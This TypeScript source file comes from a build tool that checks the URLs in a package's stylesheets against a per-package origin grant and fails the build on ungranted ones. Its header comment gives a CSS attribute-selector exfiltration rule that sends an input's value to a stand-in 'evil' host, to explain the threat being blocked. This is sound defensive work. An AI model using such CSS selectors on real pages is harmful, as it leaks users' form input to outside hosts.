// Package CSS (THREATS.md row 61). A stylesheet a package ships (`import 'pkg/x.css'`, `?inline`, `?url`) is bundled
// as it is, and CSS makes requests: `url()`, `@import`, `image-set()`, font sources. With attribute selectors the
// request depends on page state (`input[value^=a] { background: url(//evil/a) }` sends the app's input value one
// character at a time). So every URL in a package's CSS that leaves the bundle needs its policy's `css.origins` grant
// (same form as `dom.origins`: origins, or `'self'` for the page's own); without it the build (and the dev server)
// fails naming the file, line and grant. Inside the bundle: `data:` URLs and relative URLs to files of the package
// (the bundler copies or inlines them), and local `@import`s, which are followed and checked in turn.
// Read from the file on disk, before any CSS plugin ran: what the package wrote is what is checked.
import { existsSync, readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import { dirname, resolve } from 'node:path';
import type { PackageUsage } from '../policy/generate.js';
import type { CssGrant, Policy } from '../policy/schema.js';
import { cssUrls } from './css-urls.js';
import type { GlobalUse } from './uses.js';

/** Stylesheet languages whose files are checked (preprocessors' own imports are not followed: see the README). */
export const CSS_FILE = /\.(?:css|less|sass|scss|styl|stylus|pcss|postcss|sss)$/;

export interface CssDestination {
  /** An origin (`https://fonts.example`), `'self'`, or null when the URL can never be granted (`javascript:`, `blob:`). */
  origin: string | null;
  url: string;
}

/** Where a URL written in `file` loads from; undefined when it stays inside the bundle. */
export function destination(url: string, file: string): CssDestination | undefined {
  const trimmed = url.trim();
  if (trimmed === '' || trimmed.startsWith('#')) return undefined; // `url(#filter)`: a fragment of this document
  if (/^data:/i.test(trimmed)) return undefined;
  if (trimmed.startsWith('//')) return { origin: originOf(`https:${trimmed}`), url: trimmed };
  if (/^[a-z][a-z0-9+.-]*:/i.test(trimmed)) {
    const origin = originOf(trimmed);
    return { origin: origin && /^https?:/.test(origin) ? origin : null, url: trimmed };
  }
  if (trimmed.startsWith('/')) return { origin: "'self'", url: trimmed };
  const local = localFile(trimmed, file);
  return local && existsSync(local) ? undefined : { origin: "'self'", url: trimmed };
}

/** The file a relative URL names, or undefined when it cannot name one (a malformed %-escape). */
function localFile(url: string, from: string): string | undefined {
  try {
    return resolve(dirname(from), decodeURI(url.split(/[?#]/)[0]!));
  } catch {
    return undefined;
  }
}

function originOf(url: string): string | null {
  try {
    const origin = new URL(url).origin;
    return origin === 'null' ? null : origin;
  } catch {
    return null;
  }
}

/** The URLs leaving the bundle in a package's stylesheet and the local stylesheets it @imports, as `css-url` uses. */
export function cssUses(file: string, problems: string[], seen = new Set<string>()): { file: string; uses: GlobalUse[] }[] {
  if (seen.has(file)) return [];
  seen.add(file);
  const text = readFileSync(file, 'utf8');
  const lines = [0];
  for (let i = text.indexOf('\n'); i !== -1; i = text.indexOf('\n', i + 1)) lines.push(i + 1);
  const at = (offset: number) => {
    let line = lines.length - 1;
    while (lines[line]! > offset) line--;
    return { line: line + 1, column: offset - lines[line]! + 1 };
  };
  const uses: GlobalUse[] = [];
  const nested: { file: string; uses: GlobalUse[] }[] = [];
  for (const found of cssUrls(text)) {
    const where = destination(found.url, file);
    if (found.kind === 'import' && !where) {
      const local = localFile(found.url.trim(), file);
      if (local && !/^data:/i.test(found.url.trim()) && existsSync(local)) nested.push(...cssUses(local, problems, seen));
      continue;
    }
    if (found.kind === 'import' && where?.origin === "'self'" && !/^[./]/.test(found.url)) {
      // A bare `@import "other-pkg/x.css"`: the bundler resolves it from node_modules, so follow it the same way.
      const target = resolveBare(found.url, file);
      if (target && CSS_FILE.test(target)) {
        nested.push(...cssUses(target, problems, seen));
        continue;
      }
    }
    if (!where) continue;
    if (where.origin === null) {
      problems.push(`${file}:${at(found.offset).line}: url "${where.url}" can never be granted (only http(s) origins and 'self' can)`);
      continue;
    }
    uses.push({ path: where.origin, kind: 'css-url', ...at(found.offset) });
  }
  return [{ file, uses }, ...nested];
}

function resolveBare(specifier: string, from: string): string | undefined {
  try {
    return createRequire(from).resolve(specifier);
  } catch {
    return undefined;
  }
}

/** The problems of a package's stylesheet uses under its grant (`'self'` must be granted like any origin). */
export function checkCss(options: { pkg: string; module: string; uses: GlobalUse[]; grant: CssGrant | undefined; overrideFile: string }): string[] {
  const allowed = new Set(options.grant?.origins ?? []);
  const problems: string[] = [];
  for (const use of options.uses) {
    if (use.kind !== 'css-url' || allowed.has(use.path)) continue;
    const snippet = JSON.stringify({ resources: { [options.pkg]: { css: { origins: [use.path] } } } });
    problems.push(
      `${options.module}:${use.line}:${use.column} (package "${options.pkg}") loads from ${use.path === "'self'" ? "the page's own origin ('self')" : use.path} in its CSS, ` +
        `which its policy does not grant. If it should, add to ${options.overrideFile}: ${snippet}`,
    );
  }
  return problems;
}

/** The generator's `css` section: every origin the package's stylesheets load from. */
export function cssSection(usage: PackageUsage): CssGrant | undefined {
  const origins = new Set<string>();
  for (const uses of usage.modules.values()) for (const use of uses) if (use.kind === 'css-url') origins.add(use.path);
  return origins.size ? { origins: [...origins].sort() } : undefined;
}

export type { Policy };
